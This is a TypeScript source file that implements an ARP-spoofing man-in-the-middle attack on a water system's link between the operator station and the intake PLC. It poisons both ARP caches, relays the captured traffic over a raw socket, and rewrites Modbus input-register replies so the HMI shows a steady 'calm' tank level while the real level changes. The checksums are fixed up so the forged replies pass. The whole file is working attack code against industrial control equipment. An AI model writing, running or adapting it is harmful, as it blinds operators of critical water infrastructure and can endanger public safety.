import { spawn } from "node:child_process";
import { readFileSync } from "node:fs";
import koffi from "koffi";
import { FACTOR, plantSleep } from "./plant-time.js";
import { PORTS, WATER } from "./water-hosts.js";

const AF_PACKET = 17;
const SOCK_RAW = 3;
const DEVICE = "eth0";
const ETHER_BYTES = 14;
const IP_BYTES = 20;
const TCP_PROTOCOL = 6;
const ARP_REPLY = 2;
const READ_INPUT_REGISTERS = 4;
/** What the tank is said to hold while it is not, in tenths of a centimetre. */
const CALM_LEVEL = 2500;
/** The caches of both are told anew before they ask. */
const POISON_SECONDS = 4;

/** An end of the link, as the other end should know it. */
interface Party {
  readonly address: string;
  readonly mac: string;
}

const OWN = WATER.laptop;
const PLC: Party = WATER.plcIntake;
const STATION: Party = WATER.hmi;

/** Sits between operator station and intake PLC for so many seconds: passes all on, but the readings say calm. */
export async function sitInTheMiddle(seconds: number): Promise<void> {
  const send = openSender();
  const listener = spawn("tcpdump", ["-i", DEVICE, "-U", "--immediate-mode", "-Z", "root", "-w", "-", "tcp"], {
    stdio: ["ignore", "pipe", "ignore"],
  });
  eachFrame(listener.stdout, (frame) => {
    const passed = passOn(frame);
    if (passed !== undefined) send(passed);
  });
  await plantSleep(FACTOR);
  for (let passed = 0; passed < seconds; passed += POISON_SECONDS) {
    send(arpReply(PLC.address, OWN.mac, STATION));
    send(arpReply(STATION.address, OWN.mac, PLC));
    await plantSleep(POISON_SECONDS);
  }
  send(arpReply(PLC.address, PLC.mac, STATION));
  send(arpReply(STATION.address, STATION.mac, PLC));
  await plantSleep(1);
  listener.kill();
}

function openSender(): (frame: Buffer) => void {
  const libc = koffi.load(null);
  const socket = libc.func("int socket(int family, int kind, int protocol)");
  const sendto = libc.func("int64_t sendto(int s, const void *b, size_t n, int flags, const void *to, uint32_t m)");
  const descriptor = Number(socket(AF_PACKET, SOCK_RAW, 0));
  const to = Buffer.alloc(20);
  to.writeUInt16LE(AF_PACKET, 0);
  to.writeInt32LE(Number(readFileSync(`/sys/class/net/${DEVICE}/ifindex`, "utf8")), 4);
  return (frame) => {
    if (Number(sendto(descriptor, frame, frame.length, 0, to, to.length)) < 0) throw new Error("a frame was not sent");
  };
}

/** Frames of a pcap as they come. */
function eachFrame(stream: NodeJS.ReadableStream, hear: (frame: Buffer) => void): void {
  let held = Buffer.alloc(0);
  let at = 24;
  stream.on("data", (chunk: Buffer) => {
    held = Buffer.concat([held, chunk]);
    while (held.length >= at + 16 && held.length >= at + 16 + held.readUInt32LE(at + 8)) {
      const end = at + 16 + held.readUInt32LE(at + 8);
      hear(Buffer.from(held.subarray(at + 16, end)));
      held = held.subarray(end);
      at = 0;
    }
  });
}

/** The frame as the other end gets it; undefined for one that was not sent to this station by one of the two. */
function passOn(frame: Buffer): Buffer | undefined {
  if (!frame.subarray(0, 6).equals(mac(OWN.mac)) || frame.readUInt16BE(12) !== 0x0800) return undefined;
  const isToPlc = frame.subarray(30, 34).equals(ip(PLC.address));
  const isFromPlc = frame.subarray(26, 30).equals(ip(PLC.address));
  if ((!isToPlc && !isFromPlc) || frame.subarray(30, 34).equals(ip(OWN.address))) return undefined;
  mac(isToPlc ? PLC.mac : STATION.mac).copy(frame, 0);
  mac(OWN.mac).copy(frame, 6);
  if (isFromPlc) calm(frame);
  return frame;
}

/** The level in an answer to FC 4 on eight registers. */
function calm(frame: Buffer): void {
  const tcp = ETHER_BYTES + IP_BYTES;
  const end = ETHER_BYTES + frame.readUInt16BE(16);
  const adu = tcp + 4 * (frame[tcp + 12]! >> 4);
  if (frame.readUInt16BE(tcp) !== PORTS.modbus || end < adu + 11 || frame[adu + 7] !== READ_INPUT_REGISTERS) return;
  frame.writeUInt16BE(CALM_LEVEL + (frame[adu + 1]! & 7), adu + 9);
  frame.writeUInt16BE(0, tcp + 16);
  const pseudo = Buffer.alloc(12);
  frame.copy(pseudo, 0, 26, 34);
  pseudo.writeUInt16BE(TCP_PROTOCOL, 8);
  pseudo.writeUInt16BE(end - tcp, 10);
  frame.writeUInt16BE(checksum(Buffer.concat([pseudo, frame.subarray(tcp, end)])), tcp + 16);
}

/** [RFC 1071 §1] */
function checksum(bytes: Buffer): number {
  let sum = 0;
  for (let at = 0; at < bytes.length; at += 2) sum += (bytes[at]! << 8) | (bytes[at + 1] ?? 0);
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16);
  return ~sum & 0xffff;
}

/** Tells one that an address is at a station [RFC 826]. */
function arpReply(address: string, station: string, told: Party): Buffer {
  const head = Buffer.from([0x08, 0x06, 0, 1, 0x08, 0, 6, 4, 0, ARP_REPLY]);
  const parts = [mac(told.mac), mac(OWN.mac), head, mac(station), ip(address), mac(told.mac), ip(told.address)];
  return Buffer.concat(parts);
}

function mac(text: string): Buffer {
  return Buffer.from(text.replaceAll(":", ""), "hex");
}

function ip(text: string): Buffer {
  return Buffer.from(text.split(".").map(Number));
}
